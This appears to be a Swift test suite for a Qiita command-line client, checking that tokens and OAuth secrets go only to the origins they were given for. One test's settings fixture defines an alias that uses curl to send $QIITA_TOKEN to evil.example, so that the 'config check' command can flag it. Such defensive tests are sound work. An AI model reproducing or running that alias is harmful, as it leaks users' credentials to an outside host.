import Foundation
import Glibc
import ReactiveTesting
import StandInServer
import Testing

/// Each secret goes to the origin that it was given for, whatever other settings say.
@Suite(.blocking) struct SecretOriginTests {
    private let home: TemporaryFolder
    private let server: StandInServer

    init() async throws {
        home = try TemporaryFolder()
        server = try await StandInServer.start(.init())
    }

    private func writeSettings(_ settings: [String: Any]) throws {
        let folder = "\(home.path)/.config/nagare/default"
        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
        let file = URL(fileURLWithPath: "\(folder)/settings.json")
        try JSONSerialization.data(withJSONObject: settings).write(to: file)
        try FileManager.default.setAttributes([.posixPermissions: 0o600], ofItemAtPath: file.path)
    }

    @Test("QIITA_TOKEN is not sent to an origin that only settings.json names, and a sentence says so")
    func foreignOrigin() async throws {
        try writeSettings(["qiita_url": server.origin])
        let token = ["QIITA_TOKEN": "demo-token"]

        let withheld = try await Executable.run("whoami", home: home, environment: token)
        #expect(withheld.status == 4 && withheld.output == "")
        #expect(
            withheld.errorLines.first
                == "nagare: settings: QIITA_TOKEN is not sent to \(server.origin), which only settings.json names; "
                + "set NAGARE_QIITA_URL=\(server.origin) to send it there")
        #expect(await server.requests().isEmpty)

        let named = try await Executable.run(
            "whoami", home: home, environment: token.merging(["NAGARE_QIITA_URL": server.origin]) { $1 })
        #expect(named.output == "demo\n" && named.errors == "")
        await server.stop()
    }

    @Test("a command that works without a login says that QIITA_TOKEN is not sent, and goes on")
    func anonymous() async throws {
        try writeSettings(["qiita_url": server.origin])
        let found = try await Executable.run(
            "search", "swift", "-L", "1", home: home, environment: ["QIITA_TOKEN": "demo-token"])
        #expect(found.status == 0 && found.output != "" && found.errorLines.count == 1, "\(found.errors)")
        let quiet = try await Executable.run("search", "swift", "-L", "1", home: home)
        #expect(quiet.errors == "")
        await server.stop()
    }

    @Test("the token that is stored for the origin in settings.json is used there")
    func storedToken() async throws {
        try writeSettings(["qiita_url": server.origin])
        let login = try await Executable.run("login", "--with-token", home: home, input: "demo-token")
        #expect(login.status == 0 && login.errors == "", "\(login.errors)")
        let whoami = try await Executable.run(
            "whoami", home: home, environment: ["QIITA_TOKEN": "somebody-else"])
        #expect(whoami.output == "demo\n")
        await server.stop()
    }

    @Test("the OAuth client in settings.json is not used at an origin that the environment names")
    func client() async throws {
        try writeSettings([
            "oauth_client_id": server.client.id, "oauth_client_secret": server.client.secret,
        ])
        let run = try await Executable.run("login", "--oauth", home: home, origin: server.origin)
        #expect(
            run.status == 64
                && run.errors.hasPrefix("nagare: login: no OAuth client is configured for \(server.origin); "),
            "\(run.errors)")
        #expect(await server.requests().isEmpty)
        await server.stop()
    }

    @Test("config check lists the settings that decide where secrets go")
    func check() async throws {
        let settings: [String: Any] = [
            "qiita_url": server.origin, "ca_file": "/etc/hosts", "theme": "dusk",
            "sync": "postgresql://db.example/x",
            "aliases": ["evil": "!curl http://evil.example -d \"$QIITA_TOKEN\"", "sw": "search tag:swift"],
        ]
        try writeSettings(settings)
        let run = try await Executable.run("config", "check", home: home)
        // As root, it says so.
        #expect(run.status == 0 && run.errorLines.count == (geteuid() == 0 ? 1 : 0), "\(run.errors)")
        #expect(
            run.output.split(separator: "\n") == [
                "qiita_url\t\(server.origin)\ttoken,oauth_client_secret",
                "ca_file\t/etc/hosts\ttoken,oauth_client_secret",
                "sync\tpostgresql://db.example/x\tlibrary,database_password",
                "alias.evil\t!curl http://evil.example -d \"$QIITA_TOKEN\"\tenvironment",
            ])
        let names = try await Executable.run("config", "check", "--json", "--fields", "name", home: home)
            .json([[String: String]].self).map { $0["name"] }
        #expect(names == ["qiita_url", "ca_file", "sync", "alias.evil"])
        let overridden = try await Executable.run("config", "check", home: home, origin: server.origin)
        #expect(!overridden.output.contains("qiita_url"), "settings that are not in effect are not listed")

        try writeSettings(["theme": "nonsense"])
        let mistaken = try await Executable.run("config", "check", home: home)
        #expect(mistaken.status == 1 && mistaken.errorLines.count == (geteuid() == 0 ? 2 : 1), "\(mistaken)")
        await server.stop()
    }
}
